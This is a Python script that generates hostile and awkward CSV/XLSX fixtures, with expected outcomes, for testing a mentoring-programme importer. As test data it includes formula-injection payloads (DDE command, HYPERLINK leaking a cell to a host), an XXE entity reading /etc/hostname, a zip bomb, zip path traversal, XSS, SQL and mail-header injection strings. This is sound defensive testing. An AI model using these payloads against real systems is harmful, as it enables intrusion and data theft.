#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Writes hostile/: small bad (and awkward but good) import files, EXPECTED.md and expected.json.

Standard library only, same bytes on every run.  The files are for testing an importer; nothing in
them works against a reader that treats cells as text.
"""
import sys, io, json, os, zipfile

OUT = sys.argv[1]
H = "mentee_id,full_name,email,career_stage,timezone,languages,specialty_interests,goals,do_not_match,statement"
HM = "mentor_id,full_name,email,career_stage,timezone,languages,specialties,topics,capacity,do_not_match,bio"
CASES = []


def q(v):
    v = str(v)
    return '"' + v.replace('"', '""') + '"' if any(c in v for c in ',"\n\r') else v


def line(*cells, sep=","):
    return sep.join(q(c) for c in cells)


def mentee(n, name="Ada Lindqvist", email=None, stage="medical-student-clinical", tz="Europe/Stockholm", langs="en", spec="cardiology", goals="interview-practice", dnm="", st="I would like help with interviews."):
    return [f"me-{n:06d}", name, email or f"person{n}@example.org", stage, tz, langs, spec, goals, dnm, st]


def mentor(n, name="Omar Haddad", email=None, stage="mid-career-physician", tz="Africa/Cairo", langs="ar;en", spec="cardiology", topics="leadership", cap="2", dnm="", bio="Happy to help."):
    return [f"mr-{n:06d}", name, email or f"mentor{n}@example.org", stage, tz, langs, spec, topics, cap, dnm, bio]


def csvtext(rows, head=H, eol="\n", sep=","):
    return eol.join([head if sep == "," else head.replace(",", sep)] + [sep.join('"' + str(c).replace('"', '""') + '"' if (sep in str(c) or any(x in str(c) for x in '"\n\r')) else str(c) for c in r) for r in rows]) + eol


def put(name, data, kind, outcome, problem, expect, accepted=None, rejected=None):
    """outcome: accept | accept-with-warning | reject-rows | reject-file.  accepted / rejected: spreadsheet row numbers (header = 1)."""
    b = data if isinstance(data, bytes) else data.encode("utf-8")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(b)
    CASES.append(dict(file=name, kind=kind, outcome=outcome, problem=problem, expect=expect, accepted_rows=accepted, rejected_rows=rejected, bytes=len(b)))


def xlsx(sheet_xml, extra=(), drop=()):
    parts = [
        ("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
        ("_rels/.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="mentees" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
        ("xl/worksheets/sheet1.xml", sheet_xml)]
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for n, t in list(parts) + list(extra):
            if n not in drop:
                i = zipfile.ZipInfo(n, (2026, 1, 1, 0, 0, 0))
                i.compress_type = zipfile.ZIP_DEFLATED
                i.external_attr = 0o644 << 16
                z.writestr(i, t)
    return b.getvalue()


def col(n):
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def esc(t):
    return str(t).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet(rows, dim="A1:J3", pre="", post=""):
    body = "".join(f'<row r="{k}">' + "".join(f'<c r="{col(c)}{k}" t="inlineStr"><is><t>{esc(v)}</t></is></c>' for c, v in enumerate(r, 1)) + "</row>" for k, r in enumerate(rows, 1))
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{pre}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="{dim}"/><sheetData>{body}{post}</sheetData></worksheet>'


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))
    two = [mentee(1), mentee(2, "José Núñez", langs="es;en")]
    head = H.split(",")

    # ---- delimiters, encodings, headers
    put("01-semicolon-delimiter.csv", csvtext(two, sep=";"), "mentees", "accept-with-warning", "Columns separated by semicolons (European Excel); list cells are quoted.", "Detect the delimiter from the header, say so in the preview, import both rows; `es;en` stays one cell.", [2, 3], [])
    put("02-tab-delimiter.csv", csvtext(two, sep="\t"), "mentees", "accept-with-warning", "Tabs in a file called .csv.", "As 01.", [2, 3], [])
    put("03-utf16-bom.csv", b"\xff\xfe" + csvtext(two).encode("utf-16-le"), "mentees", "accept-with-warning", "UTF-16 little endian with byte-order mark (Excel 'Unicode text').", "Decode by the mark; names keep their accents.", [2, 3], [])
    put("04-latin1.csv", csvtext([mentee(1, "José Núñez"), mentee(2, "Zoë Müller")]).encode("latin-1"), "mentees", "reject-file", "Latin-1 / Windows-1252 bytes, not valid UTF-8.", "Never guess silently. Reject: \"This file is not UTF-8 (first bad byte in row 2, column full_name). It looks like Windows-1252: re-save as 'CSV UTF-8', or choose the encoding here.\" Importing after the person picked Windows-1252 is fine.", [], [])
    put("05-utf8-bom.csv", b"\xef\xbb\xbf" + csvtext(two).encode(), "mentees", "accept", "UTF-8 with byte-order mark.", "Accept; the mark is not part of the first header name.", [2, 3], [])
    put("06-missing-header.csv", "\n".join(line(*r) for r in two) + "\n", "mentees", "reject-file", "No header row.", "Reject: \"The first row looks like data, not column names. Expected columns such as mentee_id, full_name, email.\" Do not eat the first person.", [], [])
    put("07-missing-required-column.csv", "mentee_id,full_name,career_stage,timezone,languages\nme-000001,Ada Lindqvist,intern,Europe/Stockholm,en\n", "mentees", "reject-file", "Column email is absent.", "Reject: \"Column 'email' is missing.\" Name every missing column at once.", [], [])
    put("08-duplicate-headers.csv", "mentee_id,full_name,email,career_stage,timezone,languages,email\nme-000001,Ada Lindqvist,ada@example.org,intern,Europe/Stockholm,en,ada.other@example.org\n", "mentees", "reject-file", "Column email occurs twice with different values.", "Reject: \"Column 'email' appears twice (columns 3 and 7).\" Never take the last one silently.", [], [])
    put("09-header-variants.csv", "Mentee ID, Full Name ,E-MAIL,Career stage,Time zone,Languages,Shoe size\nme-000001,Ada Lindqvist,ada@example.org,intern,Europe/Stockholm,en,42\n", "mentees", "accept-with-warning", "Headers with case, spaces and punctuation; one unknown column.", "Map them and show the mapping; ignore 'Shoe size' and say so.", [2], [])
    # ---- identity
    em = ["ana@example.org", "Ana@Example.org", "ana+mentoring@example.org", " ana@example.org ", "ａｎａ@example.org", "аna@example.org", "ana@example.org.", "ana@exаmple.org", "a.na@example.org", "ana@@example.org", "ana at example.org", "ana@localhost", "\"ana\"@example.org", "ana@example.org,ben@example.org", "bjørn@example.org"]
    put("10-duplicate-emails.csv", csvtext([mentee(n, email=e) for n, e in enumerate(em, 1)]), "mentees", "reject-rows", "One address in many coats: case, plus tag, spaces, full-width letters, Cyrillic a in the local part and in the domain, trailing dot; then a distinct address with a dot, and broken ones.", "Row 2 in. Rows 3, 5, 6, 8 are the same address after trimming, NFKC and lower-casing: reject as duplicates of row 2, naming it. Row 4 (plus tag): warn 'possible duplicate', accept. Row 7 and 9 (letters from another script): reject, 'contains look-alike letters'. Row 10 (a.na) is a different address: accept. Rows 11, 12, 13, 15: reject, 'not an e-mail address' (15 holds two). Row 14 (quoted local part): reject with a clear message is fine. Row 16 (non-ASCII local part): accept only if mail can be sent to it, else reject plainly.", [2, 4, 10], [3, 5, 6, 7, 8, 9, 11, 12, 13, 14, 15])
    put("11-duplicate-ids.csv", csvtext([mentee(1), mentee(1, "Ben Okafor", "ben@example.org"), ["ME-000001"] + mentee(1, "Cy Adeyemi", "cy@example.org")[1:]]), "mentees", "reject-rows", "The same id three times, once in capitals.", "Row 2 in; rows 3 and 4 rejected: \"mentee_id me-000001 is already used in row 2.\"", [2], [3, 4])
    put("12-spaces-in-ids.csv", csvtext([[" me-000001 "] + mentee(1)[1:], ["me 000002"] + mentee(2)[1:], ["me-000003\u00a0"] + mentee(3)[1:], ["me-４"] + mentee(4)[1:], [""] + mentee(5)[1:], ["../../etc/me-6"] + mentee(6)[1:], ["m" * 300] + mentee(7)[1:], ["me-000008", *mentee(8, dnm=" mr-000001 ; mr-000002 ")[1:]]]), "mentees", "reject-rows", "Ids with spaces, no-break space, full-width digit, empty, path-like, 300 characters; spaces inside a list.", "Trim ordinary and no-break spaces (rows 2, 4, 9 in). Reject inner spaces (3), non-ASCII digits (5), empty (6), '/' and '.' (7), too long (8), quoting the value cut to 40 characters.", [2, 4, 9], [3, 5, 6, 7, 8])
    # ---- injection
    f = ['=HYPERLINK("http://example.org/?x="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=cmd|'/c calc'!A0", "'=1+1", "- I like lists\n- and dashes"]
    put("13-formula-injection.csv", csvtext([mentee(n, st=v) for n, v in enumerate(f, 1)] + [mentee(20, name='=IMPORTXML("http://example.org","//a")')]), "mentees", "reject-rows", "Statements (and one name) that a spreadsheet would run.", "Accept statements as plain text and show them unchanged; on every export to CSV or XLSX write such cells as text (leading apostrophe or text-typed cell) so that re-import gives the same string. Row 12 (a dashed list) must survive. The name in row 13 holds a web address: reject.", [2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12], [13])
    put("14-header-injection.csv", csvtext([mentee(1, "Ada\r\nBcc: everyone@example.com"), mentee(2, email="ada@example.org\nCc: all@example.com"), mentee(3, "Ada\u2028Subject: hi"), mentee(4, "Ada\vLindqvist"), mentee(5, "Ada%0d%0aBcc: x"), mentee(6, st="Two lines\nare fine here")]), "mentees", "reject-rows", "Line breaks in names and addresses, aimed at mail headers.", "Reject rows 2-5: \"full_name contains a line break or control character (character 4)\". Row 6 is ordinary text: accept, and encode headers anyway. Row 7: line breaks are allowed in statements.", [6, 7], [2, 3, 4, 5])
    put("15-html-in-names.csv", csvtext([mentee(1, "<script>alert(1)</script>"), mentee(2, "<img src=x onerror=alert(1)>"), mentee(3, "Ada &lt;b&gt; Lindqvist"), mentee(4, "{{7*7}} ${7*7} <%= 7*7 %>"), mentee(5, "Robert'); DROP TABLE mentees;--"), mentee(6, "Conor O'Neill"), mentee(7, st="[click](javascript:alert(1)) <a href=\"javascript:alert(1)\">x</a>"), mentee(8, "Ada\" onmouseover=\"alert(1)")]), "mentees", "reject-rows", "Markup, templates and SQL in names and statements.", "Reject '<' in names with a plain message; whatever is stored is shown as text in pages, mail, PDF, CSV. Row 4 must show &lt; literally, not a bracket. Row 7 (O'Neill) must be accepted.", [4, 6, 7, 8, 9], [2, 3, 5])
    put("16-bidi-and-invisible.csv", csvtext([mentee(1, "Ada \u202eexe.tsivqdniL"), mentee(2, "Ben\u2066\u2069 Okafor"), mentee(3, "Cy\u200b\u200bAdeyemi"), mentee(4, "نیلوفر می\u200cخواه", langs="fa"), mentee(5, "محمد الأحمد\u200f", langs="ar"), mentee(6, "\u200b\u200b\u200b"), mentee(7, "\ufeffDana Weiß")]), "mentees", "reject-rows", "Right-to-left override, isolates, zero-width characters; two genuine right-to-left names.", "Row 2: reject (override changes how the line reads). Rows 3, 4, 8: strip invisible characters, warn, accept. Row 5: the zero-width non-joiner is correct Persian spelling, keep it. Row 6: trailing mark stripped, accept. Row 7: nothing visible, reject as empty.", [3, 4, 5, 6, 8], [2, 7])
    put("17-emoji-and-combining.csv", csvtext([mentee(1, "Ada 🩺 Lindqvist"), mentee(2, "👩🏽‍⚕️"), mentee(3, "Z" + "\u0300\u0301\u0302\u0303\u0304" * 60), mentee(4, "Zoe\u0308 Mu\u0308ller"), mentee(5, "Zoë Müller", "zoe2@example.org"), mentee(6, "𝒜𝒹𝒶"), mentee(7, "Nguyễn Thị Thu Hà", langs="vi"), mentee(8, st="I love ER work 🚑🚑🚑 and 🇳🇬 🇵🇰 food")]), "mentees", "reject-rows", "Emoji, 300 combining marks, decomposed and composed forms of one name, mathematical letters.", "Accept 2, 5, 6, 8, 9. Row 3 (no letters): reject, 'needs at least one letter', or accept by policy. Row 4: reject, 'too many combining marks'. Rows 5 and 6: store as NFC; same name is not a duplicate person. Row 7: fold to 'Ada' with a warning or reject.", [2, 5, 6, 8, 9], [4])
    # ---- size and structure
    put("18-one-megabyte-cell.csv", csvtext([mentee(1, st="I would like help. " * 55188), mentee(2)]), "mentees", "reject-rows", "A statement of about 1 MB.", "Row 2: reject, \"statement has 1,048,572 characters; the limit is N\". Row 3 in. The message must not contain the cell.", [3], [2])
    put("19-five-thousand-columns.csv", H + "," + ",".join(f"extra_{n}" for n in range(4990)) + "\n" + line(*mentee(1)) + "," * 4990 + "\n", "mentees", "reject-file", "5,000 columns.", "Reject: \"5,000 columns; the limit is 200.\" Decided on the header, in milliseconds.", [], [])
    put("20-nul-bytes.csv", csvtext([mentee(1, "Ada\x00Lindqvist"), mentee(2)]), "mentees", "reject-file", "NUL inside a name.", "Reject file (or only row 2): \"contains NUL bytes in row 2; the file may be damaged or not a text file\". Never cut the name at the NUL.", None, None)
    put("21-unbalanced-quote.csv", H + "\n" + line(*mentee(1)) + '\nme-000002,"Ben Okafor,ben@example.org,intern,Europe/London,en,,,,\n' + "\n".join(line(*mentee(n)) for n in range(3, 40)) + "\n", "mentees", "reject-file", "A quote opened in row 3 is never closed, so 37 people vanish into one name.", "Reject: \"A quote opened in row 3 (full_name) is not closed.\" Report the row where it opened, not the last row; do not import a 37-line name.", [], [])
    put("22-ragged-rows.csv", H + "\n" + line(*mentee(1)) + "\nme-000002,Ben Okafor,ben@example.org\n" + line(*mentee(3)) + ",surplus,cells\n\n   \n" + line(*mentee(4)) + "\n", "mentees", "reject-rows", "Too few cells, too many cells, an empty line, a line of spaces.", "Row 3: reject, '3 cells, expected 10'. Row 4: reject, '12 cells, expected 10' (an unquoted comma?). Rows 5, 6: skip silently but keep row numbers right. Rows 2 and 7 in.", [2, 7], [3, 4])
    put("23-empty.csv", b"", "mentees", "reject-file", "Zero bytes.", "Reject: \"The file is empty.\"", [], [])
    put("24-only-header.csv", H + "\n", "mentees", "accept-with-warning", "Header and nothing else.", "Say \"0 rows\". Must not be read as 'remove everyone'.", [], [])
    put("25-crlf.csv", csvtext([mentee(1, st="Two lines\r\nin one cell"), mentee(2)], eol="\r\n"), "mentees", "accept", "Windows line ends, one also inside a quoted cell.", "Accept; no stray carriage return in the last column; the inner break stays one break.", [2, 3], [])
    put("26-cr-only.csv", csvtext(two, eol="\r"), "mentees", "accept-with-warning", "Old Mac line ends (carriage return only).", "Accept both rows or reject with a message about line ends; never report one giant row.", [2, 3], [])
    put("27-trailing-junk.csv", csvtext(two) + "\nTotal,2\nExported by Spreadsheet 2026\n", "mentees", "accept-with-warning", "A totals line and a footer below the table.", "Rows 2 and 3 in; rows 5 and 6 are no people, and are named.", [2, 3], [])
    # ---- values
    caps = ["-1", "0", "1000000000", "NaN", "2.5", "two", "", "Infinity", "٣", "1,000", "0002", "3\u00a0", "1e1", "2 ", "=2"]
    put("28-bad-capacity.csv", csvtext([mentor(n, cap=c) for n, c in enumerate(caps, 1)], HM), "mentors", "reject-rows", "Negative, zero, huge, NaN, fractional, word, empty, infinite, Arabic-Indic digit, grouped, leading zeros, trailing spaces, exponent, formula.", "Whole numbers 0 to a limit (say 50). Row 3 (0): accept as 'not taking mentees', with a warning. Row 8 (empty): use the programme's default, warn. Rows 12 (0002 = 2), 13 and 15 (spaces trimmed) in. Row 10 (٣): accept as 3 or reject, but not crash. Reject 2, 4, 5, 6, 7, 9, 11, 14, 16: \"capacity must be a whole number from 0 to 50; found 'NaN'\".", [3, 8, 12, 13, 15], [2, 4, 5, 6, 7, 9, 11, 14, 16])
    put("29-unknown-ids.csv", csvtext([mentee(1, spec="cardiolgy"), mentee(2, spec="Cardiology"), mentee(3, spec="heart surgery"), mentee(4, spec="interview-practice", goals="cardiology"), mentee(5, spec="cardiology;cardiology;;cardiology"), mentee(6, spec=";".join(f"made-up-{n}" for n in range(60))), mentee(7, stage="M3"), mentee(8, stage="wizard"), mentee(9, langs="xx"), mentee(10, langs="English;Español"), mentee(11, spec="CT"), mentee(12, langs="no")]), "mentees", "reject-rows", "Misspelt id, label instead of id, alias, goal in the specialty column, repeats, 60 inventions, stage alias, unknown stage, unknown language, language names, ambiguous short form, a real language outside the list.", "Unknown values are row errors with a suggestion, never new ids: row 2 \"specialty 'cardiolgy' is not known; did you mean cardiology?\"; row 5 \"'interview-practice' is a goal, not a specialty\"; row 7 lists the first three and '57 more'. Labels and aliases (3, 4, 8, 11) are mapped and shown in the preview. Row 6: repeats removed. Row 12: CT is ambiguous, ask. Row 9, 10 and 13: reject (13: 'no' is a language code, not a boolean).", [3, 4, 6, 8, 11], [2, 5, 7, 9, 10, 13])
    put("30-do-not-match.csv", csvtext([mentee(1, dnm="me-000001"), mentee(2, dnm="mr-999999"), mentee(3, dnm="mr-000001;mr-000001;mr-000001"), mentee(4, dnm=";".join(f"mr-{n:06d}" for n in range(1, 2001))), mentee(5, dnm="Omar Haddad"), mentee(6, dnm="mr-000001,mr-000002")]), "mentees", "reject-rows", "A mentee in their own list, an id that does not exist, repeats, 2,000 ids, a name, commas for semicolons.", "Row 2: warn and drop (a mentee id cannot be a mentor). Row 3: warn 'mr-999999 is not in this programme', keep the rule for later. Row 4: one rule. Row 5: accept up to a limit, else reject; warn if no mentor is left. Row 6: reject, 'use mentor ids', because dropping a do-not-match silently is unsafe. Row 7: split on commas too.", [2, 3, 4, 5, 7], [6])
    put("31-circular-mentees.csv", csvtext([mentee(1, "Ana Ruiz", "ana@example.org", "resident", dnm="mr-000002"), mentee(2, "Ben Okafor", "ben@example.org", "fellow", dnm="mr-000003"), mentee(3, "Cy Adeyemi", "cy@example.org", "fellow", dnm="mr-000001")]), "mentees", "accept-with-warning", "With 32: three people who are mentees and mentors at once, each refusing the next, so that only a ring A-B-C-A is left.", "Accept. Same address in both roles = one person: never pair someone with themselves, and warn when two people would mentor each other. The only complete matching here is the ring Cy-Ana, Ana-Ben, Ben-Cy; either allow it or say who stays unmatched and why.", [2, 3, 4], [])
    put("32-circular-mentors.csv", csvtext([mentor(1, "Ana Ruiz", "ANA@example.org", "resident", cap="1"), mentor(2, "Ben Okafor", "ben@example.org", "fellow", cap="1"), mentor(3, "Cy Adeyemi", "cy@example.org", "fellow", cap="1"), mentor(4, "Dov Katz", "dov@example.org", cap="3", dnm="me-000001;me-000002;me-000003")], HM), "mentors", "accept-with-warning", "Partner of 31; a fourth mentor refuses every mentee.", "Accept; preview says \"mr-000004 cannot be matched with anyone: all mentees are in do_not_match\". The solver ends and gives a reason for everyone who is left over.", [2, 3, 4, 5], [])
    d = ["2026-03-04", "03/04/2026", "31/12/2026", "2026-02-30", "46085", "4 March 2026", "2026-03-04T23:30:00-11:00", "1900-01-01", "2190-01-01", "٢٠٢٦-٠٣-٠٤", "yesterday", "2026-3-4", "20260304", ""]
    put("33-date-formats.csv", csvtext([mentee(n) + [v] for n, v in enumerate(d, 1)], H + ",joined_on"), "mentees", "reject-rows", "Dates in many forms.", "ISO in (2); 13 (2026-3-4) and 14 (20260304) may be read, with the reading shown. Row 3 is ambiguous: never guess, ask once for the file. Row 4 can only be 31 December: still ask. Row 5 does not exist. Row 6 looks like an Excel serial (4 March 2026): offer it. Rows 7 and 11 may be read, with the reading shown. Row 8: take the date as written. Rows 9, 10: outside a sensible range. Row 12: reject. Row 15: optional, accept empty.", [2, 8, 15], [5, 9, 10, 12])
    a = ["Mon 18:00-20:00", "Monday 6-8pm", "Mon 20:00-18:00", "Mon 18:00-25:00", "Mon 22:00-02:00", "Mon 18:00-19:00;Mon 18:30-20:00", "Mon-Sun 00:00-24:00", "Mon 18:00", "Mon 18:00-18:00", "always", "mon 18:00–20:00", ""]
    z = ["Europe/London", "EST", "GMT+5:30", "Mars/Base", "europe/london", "Asia/Kathmandu", "Asia/Calcutta", "", "UTC+25", "America/New_York ", "Europe/Kiev", "Etc/GMT+5"]
    put("34-availability-and-zones.csv", csvtext([mentee(n, tz=t) + [v] for n, (v, t) in enumerate(zip(a, z), 1)], H + ",availability"), "mentees", "reject-rows", "Weekly slots and time zones, good and bad.", "In: 2, 7 (merge overlaps), 8 (Asia/Calcutta is an old name; slot range may be rejected by grammar), 12 (en dash, Europe/Kiev is an old name), 13 (note Etc/GMT+5 is five hours BEHIND UTC). Read with a warning or reject: 3 (6-8pm; EST has no summer time), 6 (crosses midnight: split into two), 11. Reject with the cell quoted: 4 (offset, not a zone; ends before it starts), 5, 9, 10.", [2, 7, 12, 13], [4, 5, 9, 10])
    # ---- spreadsheets
    rows = [head, mentee(1), mentee(2, "José Núñez")]
    put("35-huge-dimension.xlsx", xlsx(sheet(rows, dim="A1:XFD1048576")), "mentees", "accept", "Three real rows; the sheet claims 17,179,869,184 cells.", "Read only the cells that exist; seconds and a few MB at most. Both people in. (With openpyxl in read-only mode: reset_dimensions() and stop at the limits.)", [2, 3], [])
    put("36-far-cell.xlsx", xlsx(sheet(rows, dim="A1:XFD1048576", post='<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')), "mentees", "reject-rows", "As 35, plus one real cell in the last possible place.", "Both people in; row 1048576 rejected (no id). Must not walk a million empty rows per column or allocate them.", [2, 3], [1048576])
    put("37-zip-renamed.xlsx", _plain_zip(), "mentees", "reject-file", "A zip archive with a text file in it, renamed.", "Reject: \"This is a zip archive, not an Excel workbook.\" No stack trace.", [], [])
    put("38-high-ratio.xlsx", xlsx(sheet(rows, post='<row r="4"><c r="A4" t="inlineStr"><is><t>' + " " * 30_000_000 + "</t></is></c></row>")), "mentees", "reject-file", "30 MB of spaces packed into about 30 KB.", "Reject before inflating: \"expands from 30 KB to 30 MB; the limit is 100 times\". Count while inflating; do not trust the sizes in the archive.", [], [])
    put("39-external-entity.xlsx", xlsx(sheet(rows, pre='<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>', post='<row r="4"><c r="A4" t="inlineStr"><is><t>&x;&b;</t></is></c></row>')), "mentees", "reject-file", "A document type with an external and a nested entity.", "Reject: \"contains a document type declaration\". Never open the address, never expand entities.", [], [])
    put("40-path-traversal.xlsx", xlsx(sheet(rows), extra=[("../../outside.txt", "must not be written"), ("/abs.txt", "nor this")]), "mentees", "accept-with-warning", "A good sheet in an archive that also holds ../../outside.txt.", "Read the needed parts in memory only; ignore or reject the rest. No file appears anywhere.", [2, 3], [])
    put("41-formula-cells.xlsx", xlsx('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:J2"/><sheetData>' + '<row r="1">' + "".join(f'<c r="{col(c)}1" t="inlineStr"><is><t>{h}</t></is></c>' for c, h in enumerate(head, 1)) + "</row>" + '<row r="2"><c r="A2" t="str"><f>"me-"&amp;TEXT(1,"000000")</f><v>me-000001</v></c><c r="B2" t="str"><f>HYPERLINK("http://example.org","Ada")</f><v>Ada</v></c><c r="C2" t="inlineStr"><is><t>ada@example.org</t></is></c><c r="D2" t="inlineStr"><is><t>intern</t></is></c><c r="E2" t="inlineStr"><is><t>Europe/London</t></is></c><c r="F2" t="inlineStr"><is><t>en</t></is></c><c r="G2" t="e"><f>1/0</f><v>#DIV/0!</v></c></row></sheetData></worksheet>'), "mentees", "accept-with-warning", "Cells that hold formulas with stored results, one of them an error.", "Use the stored results (me-000001, Ada), warn that formulas were found; #DIV/0! in specialty_interests is a row error or an empty value, never the text '#DIV/0!'.", None, None)
    put("42-csv-renamed.xlsx", csvtext(two), "mentees", "reject-file", "Text with the wrong ending.", "Look at the bytes: either read it as CSV and say so, or reject: \"This is a text file; rename it to .csv.\"", None, None)
    put("43-xlsx-renamed.csv", xlsx(sheet(rows)), "mentees", "reject-file", "A workbook with the wrong ending.", "Look at the bytes (PK): read it as XLSX and say so, or reject: \"This is an Excel workbook; rename it to .xlsx.\" Never import rows of binary.", None, None)
    put("44-truncated.xlsx", xlsx(sheet(rows))[:600], "mentees", "reject-file", "A workbook cut off in the middle.", "Reject: \"The workbook is damaged or incomplete.\"", [], [])
    put("45-good-control.csv", csvtext([mentee(1), mentee(2, "Conor O'Neill"), mentee(3, "نور الدين حداد", langs="ar;fr;en", st="I said \"hello\", then left,\nand came back.")]), "mentees", "accept", "Control: nothing is wrong here.", "Accept all three without a single warning. An importer that rejects this is too strict.", [2, 3, 4], [])

    json.dump(CASES, open(os.path.join(OUT, "expected.json"), "w", encoding="utf-8"), ensure_ascii=False, indent=1)
    with open(os.path.join(OUT, "EXPECTED.md"), "w", encoding="utf-8") as f:
        f.write("""# Hostile import files and what a good importer does

Made by `make_hostile.py` (`expected.json` says the same for programs). Row numbers are those a spreadsheet
shows: the header is row 1. Outcomes: **accept**, **accept-with-warning**, **reject-rows** (good rows go in, each bad
row gets its own message), **reject-file** (nothing goes in).

Rules assumed, as a proposal: required columns are the id, `full_name`, `email`, `career_stage`, `timezone`, `languages`;
at most 20 MB a file, 100 MB and 100 times unpacked, 200 columns, 200,000 rows, 5,000 characters in a statement, 200 in any
other cell except lists. Every import is previewed before anything is written, one import is all-or-nothing at the moment
of writing, and running the same file twice changes nothing the second time. A message names row, column and what was
found (cut to 40 characters, control characters shown as escapes), and says what to do. Where two reactions are
reasonable the text says so; `expected.json` then lists only the rows about which there is no doubt.

| file | outcome | what is wrong | what a good importer does |
|---|---|---|---|
""")
        for c in CASES:
            t = lambda s: s.replace("&", "&amp;").replace("|", "\\|").replace("<", "&lt;")
            f.write(f"| `{c['file']}` | {c['outcome']} | {t(c['problem'])} | {t(c['expect'])} |\n")
    print(len(CASES), "files,", sum(c["bytes"] for c in CASES), "bytes;", {o: sum(c["outcome"] == o for c in CASES) for o in ("accept", "accept-with-warning", "reject-rows", "reject-file")})


def _plain_zip():
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr(zipfile.ZipInfo("readme.txt", (2026, 1, 1, 0, 0, 0)), "not a workbook\n")
    return b.getvalue()


if __name__ == "__main__":
    main()
